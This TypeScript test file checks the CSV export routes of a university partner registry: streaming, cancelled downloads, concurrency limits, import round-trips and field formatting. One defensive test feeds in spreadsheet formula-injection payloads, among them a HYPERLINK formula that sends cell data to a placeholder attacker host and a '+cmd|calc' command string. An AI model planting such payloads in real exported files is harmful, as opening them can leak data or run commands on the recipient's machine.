import type { RegistryClient } from '@sp/client';
import {
  expectProblem,
  factories,
  registryClient,
  staffToken,
  unchecked,
  useTestApp,
  waitFor,
} from '@sp/testing';
import { type IncomingMessage, request } from 'node:http';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import type { PartnerStatus } from '@sp/types';
import { sql } from 'kysely';
import { appModule, description } from '../src/app.module';
import { activityCsvColumns } from '../src/exports/exports.mapper';

// A small pool, to see a leaked export connection; two exports at once.
const ctx = useTestApp(appModule, description, {
  env: { DATABASE_POOL_MAX: '3', EXPORT_CONCURRENCY: '2' } as Record<string, string>,
});
const make = factories(ctx);

let api: RegistryClient;
let token: string;
beforeAll(async () => {
  token = await staffToken('staff');
  api = registryClient(ctx, token);
  await make.partner({
    nameEn: 'Stockholm Trio',
    nameJa: 'ストックホルム・トリオ',
    country: 'SE',
    status: 'primary',
    memberInstitutions: ['Stockholm University', 'KTH Royal Institute of Technology'],
    summaryEn: 'Three universities, one partner: "the Trio", since 2018',
    summaryJa: '東京大学とストックホルムの三大学、\n改行を含む説明',
    city: 'Stockholm',
    tags: ['nordic', 'three-universities'],
    coordinatingDepartment: 'Division of International Affairs',
    coordinator: { name: '山田 花子', email: 'yamada@example.ac.jp', locale: 'ja' },
  });
  await make.partner({ nameEn: 'ETH Zurich', nameJa: 'チューリッヒ工科大学', country: 'CH' });
  await make.partner({
    nameEn: 'Fudan University',
    nameJa: '复旦大学',
    country: 'CN',
    status: 'ended',
  });
});

/** Sessions of the test database running an export's COPY, other than the caller's. */
const copiesRunning = async (): Promise<number> => {
  const { rows } = await sql<{ n: number }>`
    select count(*)::int as n from pg_stat_activity
    where datname = current_database() and query ilike 'copy (%' and pid <> pg_backend_pid()`.execute(
    ctx.database.db,
  );
  return rows[0]!.n;
};

/** A download started and left paused after its first bytes (a slow reader). */
const pausedDownload = (path: string) =>
  new Promise<{ res: IncomingMessage; cancel: () => void }>((resolve, reject) => {
    const req = request(`${ctx.running.url}${path}`, {
      headers: { authorization: `Bearer ${token}` },
    });
    req.on('response', (res) => {
      expect(res.statusCode).toBe(200);
      res.once('data', () => {
        res.pause();
        resolve({ res, cancel: () => req.destroy() });
      });
    });
    req.on('error', reject);
    req.end();
  });

const exportCsv = async (query: { status?: PartnerStatus[]; country?: string[] } = {}) => {
  const res = await api.GET('/exports/partners.csv', {
    params: { query },
    parseAs: 'arrayBuffer',
  });
  expect(res.response.status).toBe(200);
  return { bytes: Buffer.from(res.data as unknown as ArrayBuffer), headers: res.response.headers };
};

describe('GET /exports/partners.csv', () => {
  it('downloads every partner as UTF-8 CSV with a BOM, Japanese and quoted text intact', async () => {
    const { bytes, headers } = await exportCsv();
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(headers.get('content-disposition')).toMatch(
      /^attachment; filename="partners-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    // Streamed: chunked, its length unknown when the first bytes left.
    expect(headers.get('content-length')).toBeNull();
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const records = parse<Record<string, string>>(bytes, { bom: true, columns: true });
    expect(records.map((r) => r['nameEn'])).toEqual([
      'ETH Zurich',
      'Fudan University',
      'Stockholm Trio',
    ]);
    const listed = await api.GET('/partners', { params: { query: { limit: 200 } } });
    for (const partner of listed.data!.items) {
      const row = records.find((r) => r['id'] === partner.id)!;
      expect(row).toEqual({
        id: partner.id,
        nameEn: partner.nameEn,
        nameJa: partner.nameJa ?? '',
        country: partner.country,
        region: partner.region ?? '',
        website: partner.website ?? '',
        status: partner.status,
        statusSince: partner.statusSince,
        memberInstitutions: partner.memberInstitutions.join('; '),
        summaryEn: partner.summaryEn ?? '',
        summaryJa: partner.summaryJa ?? '',
        createdAt: partner.createdAt,
        updatedAt: partner.updatedAt,
        version: String(partner.version),
        city: partner.city ?? '',
        logoUrl: partner.logoUrl ?? '',
        tags: partner.tags.join('; '),
        coordinatingDepartment: partner.coordinatingDepartment ?? '',
        coordinatorName: partner.coordinator?.name ?? '',
        coordinatorEmail: partner.coordinator?.email ?? '',
      });
    }
    expect(records.find((r) => r['nameEn'] === 'Stockholm Trio')?.['summaryJa']).toBe(
      '東京大学とストックホルムの三大学、\n改行を含む説明',
    );
  });

  it('imports again once the columns an import does not take are removed', async () => {
    const { bytes } = await exportCsv({ country: ['se'] });
    const [trio] = parse<Record<string, string>>(bytes, { bom: true, columns: true });
    const readOnly = ['id', 'statusSince', 'createdAt', 'updatedAt', 'version'];
    const coordinator = ['coordinatorName', 'coordinatorEmail'];
    const row = Object.fromEntries(
      Object.entries(trio!).filter(([column]) => ![...readOnly, ...coordinator].includes(column)),
    );
    // A copy under another name (the exported one exists already).
    const file = stringify([{ ...row, nameEn: 'Stockholm Trio (copy)' }], { header: true });
    const dry = await api.POST('/imports/{kind}', {
      params: { path: { kind: 'partners' }, query: { dryRun: 'true' } },
      body: unchecked(file),
      bodySerializer: (body: unknown) => body as string,
      headers: { 'content-type': 'text/csv' },
    });
    expect(dry.response.status).toBe(200);
    expect(dry.data).toMatchObject({ rows: 1, validRows: 1, errors: [] });

    // Applied, the copy keeps every column the file gave (helper-48: the import took city,
    // logo, tags and department and then dropped them).
    const applied = await api.POST('/imports/{kind}', {
      params: { path: { kind: 'partners' }, query: { dryRun: 'false' } },
      body: unchecked(file),
      bodySerializer: (body: unknown) => body as string,
      headers: { 'content-type': 'text/csv' },
    });
    expect(applied.response.status).toBe(200);
    const copy = await ctx.database.db
      .selectFrom('registry.partner')
      .select([
        'city',
        'logoUrl',
        'tags',
        'coordinatingDepartment',
        'summaryJa',
        'memberInstitutions',
      ])
      .where('nameEn', '=', 'Stockholm Trio (copy)')
      .executeTakeFirstOrThrow();
    expect(copy).toEqual({
      city: 'Stockholm',
      logoUrl: null,
      tags: ['nordic', 'three-universities'],
      coordinatingDepartment: 'Division of International Affairs',
      summaryJa: '東京大学とストックホルムの三大学、\n改行を含む説明',
      memberInstitutions: ['Stockholm University', 'KTH Royal Institute of Technology'],
    });
    // Gone again, for the tests that count every partner.
    await ctx.database.db
      .deleteFrom('registry.partner')
      .where('nameEn', '=', 'Stockholm Trio (copy)')
      .execute();
  });

  it('applies the filters of the list route', async () => {
    const { bytes } = await exportCsv({ status: ['primary', 'ended'], country: ['cn'] });
    const records = parse<Record<string, string>>(bytes, { bom: true, columns: true });
    expect(records.map((r) => r['nameEn'])).toEqual(['Fudan University']);
    const none = await exportCsv({ country: ['KR'] });
    // The header row alone.
    expect(none.bytes.toString('utf8')).toBe(
      '\uFEFFid,nameEn,nameJa,country,region,website,status,statusSince,memberInstitutions,summaryEn,summaryJa,createdAt,updatedAt,version,city,logoUrl,tags,coordinatingDepartment,coordinatorName,coordinatorEmail\r\n',
    );
  });

  it('refuses bad filters naming them', async () => {
    const res = await api.GET('/exports/partners.csv', {
      params: { query: { status: unchecked(['bogus']) } },
    });
    expectProblem(res, 400, 'validation-error', ['status.0']);
  });

  it('streams from a cursor: downloads broken off early give their connections back', async () => {
    // ≈ 20 MB of CSV (5,000 partners with a 4 KB summary): far more than the sockets between
    // the server and the service can hold, so a cut export is still writing when it is cut.
    await sql`
      insert into registry.partner (name_en, country, status, summary_en)
      select 'Bulk University ' || lpad(g::text, 5, '0'), 'JP', 'prospective', repeat('x', 4000)
      from generate_series(0, 4999) g`.execute(ctx.database.db);
    // Twice as many broken-off downloads as the pool has connections (3): a leaked cursor
    // would hold its connection and the last ones, and the export below, would never answer.
    // (node:http, whose destroy closes the socket as a browser's cancel does.)
    for (let i = 0; i < 6; i++) {
      (await pausedDownload('/exports/partners.csv')).cancel();
      // The cancelled download ended its COPY on the server too (its connection was closed),
      // rather than leaving a backend blocked on a socket nobody reads; and its export slot is
      // free, so the next one is not refused for it.
      await waitFor(async () => (await copiesRunning()) === 0, 'the cut export to end');
    }
    const { bytes } = await exportCsv();
    const records = parse<Record<string, string>>(bytes, { bom: true, columns: true });
    expect(records).toHaveLength(5003);
  });
});

describe('how many exports run at once', () => {
  it('refuses one more than EXPORT_CONCURRENCY with 429 and Retry-After, and takes it once one ends', async () => {
    // Two slow readers of the 20 MB partner export (its rows were added above) hold both slots:
    // a file small enough for the sockets' buffers would end, and free its slot, unread.
    const first = await pausedDownload('/exports/partners.csv');
    const second = await pausedDownload('/exports/partners.csv');
    const refused = await api.GET('/exports/funding.csv', { params: { query: {} } });
    expectProblem(refused, 429, 'too-many-requests');
    expect(refused.response.headers.get('retry-after')).toBe('30');
    // Other routes still answer: the exports hold two of the pool's three connections.
    expect((await api.GET('/partners', { params: { query: { limit: 1 } } })).response.status).toBe(
      200,
    );
    first.cancel();
    await waitFor(async () => (await copiesRunning()) === 1, 'the cancelled export to end');
    const taken = await api.GET('/exports/funding.csv', {
      params: { query: {} },
      parseAs: 'arrayBuffer',
    });
    expect(taken.response.status).toBe(200);
    second.cancel();
    await waitFor(async () => (await copiesRunning()) === 0, 'the other export to end');
  });
});

describe('GET /exports/activities.csv', () => {
  /** Whether some transaction other than the caller's still holds a lock on the activities. */
  const activitiesLocked = async (): Promise<boolean> => {
    try {
      await ctx.database.db
        .transaction()
        .execute((trx) =>
          sql`lock table registry.activity in access exclusive mode nowait`.execute(trx),
        );
      return false;
    } catch (error) {
      if ((error as { code?: string }).code === '55P03') return true;
      throw error;
    }
  };

  it('streams: the first bytes arrive while the export still reads, and the whole file parses back to the rows', async () => {
    const partner = await make.partner({ nameEn: 'Export University', country: 'JP' });
    // ≈ 25 MB of CSV (2,500 activities with a 10 KB review comment): far more than the socket's
    // buffers and the stream's own hold (a few MB), so an export that reads only as its reader
    // does cannot have reached its last row while the reader below holds off.
    const rows = 2500;
    await sql`
      insert into registry.activity (partner_id, type, title_en, title_ja, departments, leads,
        starts_on, status, is_public, review_status, review_comment, reported_by, created_by)
      select ${partner.id}::uuid, 'joint-research', 'Export test ' || g, '書き出し ' || g,
        array['Engineering'], array['Prof. A'], date '2024-04-01', 'ongoing', g % 2 = 0,
        'approved', g || ': ' || repeat('comment, "quoted" ', 555), 'staff', 'e2e'
      from generate_series(1, ${rows}::int) g`.execute(ctx.database.db);
    expect(await activitiesLocked()).toBe(false);

    const chunks: Buffer[] = [];
    const response = await new Promise<IncomingMessage>((resolve, reject) => {
      const req = request(`${ctx.running.url}/exports/activities.csv`, {
        headers: { authorization: `Bearer ${token}` },
      });
      req.on('response', resolve);
      req.on('error', reject);
      req.end();
    });
    expect(response.statusCode).toBe(200);
    // The first bytes, then nothing more is read for now.
    await new Promise<void>((resolve) =>
      response.once('data', (chunk: Buffer) => {
        response.pause();
        chunks.push(chunk);
        resolve();
      }),
    );
    // The export's read-only transaction (its cursor) is still open: it has not read every row
    // (a route that built the file first would have ended it before the first byte).
    expect(await activitiesLocked()).toBe(true);

    response.on('data', (chunk: Buffer) => chunks.push(chunk));
    await new Promise((resolve, reject) => {
      response.once('end', resolve);
      response.once('error', reject);
      response.resume();
    });
    // Read to the end: the export's transaction is over, its lock gone.
    expect(await activitiesLocked()).toBe(false);

    const bytes = Buffer.concat(chunks);
    expect(bytes.length).toBeGreaterThan(rows * 10_000);
    const records = parse<Record<string, string>>(bytes, { bom: true, columns: true });
    expect(Object.keys(records[0]!)).toEqual(activityCsvColumns.map((c) => c.header));
    const stored = await ctx.database.db
      .selectFrom('registry.activity')
      .select(['id', 'titleEn', 'reviewComment', 'isPublic'])
      .where('partnerId', '=', partner.id)
      .orderBy('createdAt')
      .orderBy('id')
      .execute();
    expect(stored).toHaveLength(rows);
    expect(
      records.map((r) => ({
        id: r['id'],
        titleEn: r['titleEn'],
        reviewComment: r['reviewComment'],
        isPublic: r['isPublic'] === 'true',
      })),
    ).toEqual(stored);
  });
});

/** An export read whole: its records by header, after checking it is a BOM'd CSV download. */
const download = async (path: string, query: Record<string, unknown>) => {
  const res = await fetch(
    `${ctx.running.url}${path}?${new URLSearchParams(query as Record<string, string>).toString()}`,
    { headers: { authorization: `Bearer ${token}` } },
  );
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  const bytes = Buffer.from(await res.arrayBuffer());
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  // Every record ends in CRLF; a line break inside a quoted field is kept as it was.
  expect(bytes.toString('utf8').endsWith('\r\n')).toBe(true);
  return parse<Record<string, string>>(bytes, { bom: true, columns: true });
};

const cell = (value: string | number | boolean | null | undefined): string =>
  value === null || value === undefined ? '' : String(value);

describe('every export writes each field as the JSON API does', () => {
  let partnerId: string;
  beforeAll(async () => {
    ({ id: partnerId } = await make.partner({
      nameEn: 'Field University, "Exports"',
      country: 'GB',
    }));
  });

  it('activities', async () => {
    await make.activity(partnerId, {
      type: 'education-programme',
      titleEn: 'Summer school, "quoted", with a comma',
      titleJa: '東京大学サマースクール',
      summaryEn: 'Line one\nline two',
      summaryJa: '日本語の概要、改行\r\nあり',
      departments: ['Graduate School of Engineering', 'Faculty of Science'],
      leads: ['Prof. A', 'Prof. B, Jr.'],
      startsOn: '2025-04-01',
      endsOn: '2026-03-31',
      status: 'completed',
      isPublic: true,
      links: [
        { label: 'Programme page', url: 'https://example.org/summer' },
        { label: 'Report; final', url: 'https://example.org/report?x=1&y=2' },
      ],
      outputs: {
        papers: [{ title: 'Paper one' }, { title: 'Paper two, revised' }],
        events: [{ title: 'Closing symposium', date: '2026-03-20' }],
        studentsInvolved: 12,
      },
    });
    await make.activity(partnerId);
    const listed = await api.GET('/activities', {
      params: { query: { partnerId: [partnerId], limit: 100 } },
    });
    const expected = [...listed.data!.items].reverse().map((a) => ({
      partnerId: a.partnerId,
      type: a.type,
      titleEn: a.titleEn,
      titleJa: cell(a.titleJa),
      summaryEn: cell(a.summaryEn),
      summaryJa: cell(a.summaryJa),
      departments: a.departments.join('; '),
      leads: a.leads.join('; '),
      startsOn: cell(a.startsOn),
      endsOn: cell(a.endsOn),
      status: a.status,
      isPublic: String(a.isPublic),
      'outputs.studentsInvolved': cell(a.outputs.studentsInvolved),
      id: a.id,
      partnerNameEn: a.partnerNameEn,
      links: a.links.map((l) => `${l.label} <${l.url}>`).join('; '),
      'outputs.papers': (a.outputs.papers ?? []).map((p) => p.title).join('; '),
      'outputs.events': (a.outputs.events ?? []).map((e) => e.title).join('; '),
      reviewStatus: a.reviewStatus,
      reviewComment: cell(a.reviewComment),
      reviewedAt: cell(a.reviewedAt),
      submittedAt: cell(a.submittedAt),
      publishedAt: cell(a.publishedAt),
      reportedBy: a.reportedBy,
      createdAt: a.createdAt,
      updatedAt: a.updatedAt,
      version: String(a.version),
    }));
    expect(expected).toHaveLength(2);
    expect(await download('/exports/activities.csv', { partnerId })).toEqual(expected);
    // The filters narrow it: the public one alone.
    const publicOnly = await download('/exports/activities.csv', { partnerId, isPublic: 'true' });
    expect(publicOnly.map((r) => r['titleEn'])).toEqual(['Summer school, "quoted", with a comma']);
    expect(publicOnly[0]!['summaryJa']).toBe('日本語の概要、改行\r\nあり');
  });

  it('mobility', async () => {
    await make.mobility(partnerId, {
      programme: 'Exchange "USTEP", 2024',
      direction: 'outbound',
      personType: 'researcher',
      count: 7,
      note: 'Two went early,\nfive in April',
    });
    await make.mobility(partnerId, { fiscalYear: 2023 });
    const listed = await api.GET('/mobility', {
      params: { query: { partnerId: [partnerId], limit: 100 } },
    });
    const expected = [...listed.data!.items].reverse().map((m) => ({
      partnerId: m.partnerId,
      fiscalYear: String(m.fiscalYear),
      direction: m.direction,
      personType: m.personType,
      programme: m.programme,
      count: String(m.count),
      note: cell(m.note),
      id: m.id,
      partnerNameEn: m.partnerNameEn,
      reviewStatus: m.reviewStatus,
      reviewComment: cell(m.reviewComment),
      reviewedAt: cell(m.reviewedAt),
      reportedBy: m.reportedBy,
      createdAt: m.createdAt,
      updatedAt: m.updatedAt,
      version: String(m.version),
    }));
    expect(expected).toHaveLength(2);
    expect(await download('/exports/mobility.csv', { partnerId })).toEqual(expected);
    expect(
      (await download('/exports/mobility.csv', { partnerId, fiscalYear: '2023' })).map(
        (r) => r['fiscalYear'],
      ),
    ).toEqual(['2023']);
  });

  it('puts an apostrophe before text a spreadsheet would run as a formula', async () => {
    const { id } = await make.partner({ nameEn: '=HYPERLINK("https://evil.example/?"&A1)' });
    await make.activity(id, {
      titleEn: '+cmd|calc',
      leads: ['@SUM(A1)', 'Prof. B'],
      links: [{ label: '-2 links', url: 'https://example.org' }],
    });
    await make.mobility(id, { programme: '=1+1', note: 'Ordinary note' });
    const [activity] = await download('/exports/activities.csv', { partnerId: id });
    expect(activity).toMatchObject({
      titleEn: "'+cmd|calc",
      leads: "'@SUM(A1); Prof. B",
      links: "'-2 links <https://example.org>",
      partnerNameEn: `'=HYPERLINK("https://evil.example/?"&A1)`,
    });
    const [mobility] = await download('/exports/mobility.csv', { partnerId: id });
    expect(mobility).toMatchObject({ programme: "'=1+1", note: 'Ordinary note' });
  });

  it("funding, amounts with exactly their currency's decimals", async () => {
    const activity = await make.activity(partnerId);
    await make.funding(partnerId, { amount: '1500000', currency: 'JPY' });
    await make.funding(partnerId, {
      amount: '12.5',
      currency: 'USD',
      scheme: 'Grant, "special"',
      activityId: activity.id,
      status: 'awarded',
      note: 'Paid in\ntwo parts',
    });
    await make.funding(partnerId, { amount: '1.25', currency: 'KWD' });
    const listed = await api.GET('/funding', {
      params: { query: { partnerId: [partnerId], limit: 100 } },
    });
    const expected = [...listed.data!.items].reverse().map((f) => ({
      id: f.id,
      partnerId: f.partnerId,
      partnerNameEn: f.partnerNameEn,
      activityId: cell(f.activityId),
      source: f.source,
      scheme: cell(f.scheme),
      amount: f.amount,
      currency: f.currency,
      fiscalYear: String(f.fiscalYear),
      status: f.status,
      note: cell(f.note),
      createdAt: f.createdAt,
      updatedAt: f.updatedAt,
      version: String(f.version),
    }));
    const records = await download('/exports/funding.csv', { partnerId });
    expect(records).toEqual(expected);
    expect(records.map((r) => `${r['amount']} ${r['currency']}`)).toEqual([
      '1500000 JPY',
      '12.50 USD',
      '1.250 KWD',
    ]);
  });
});
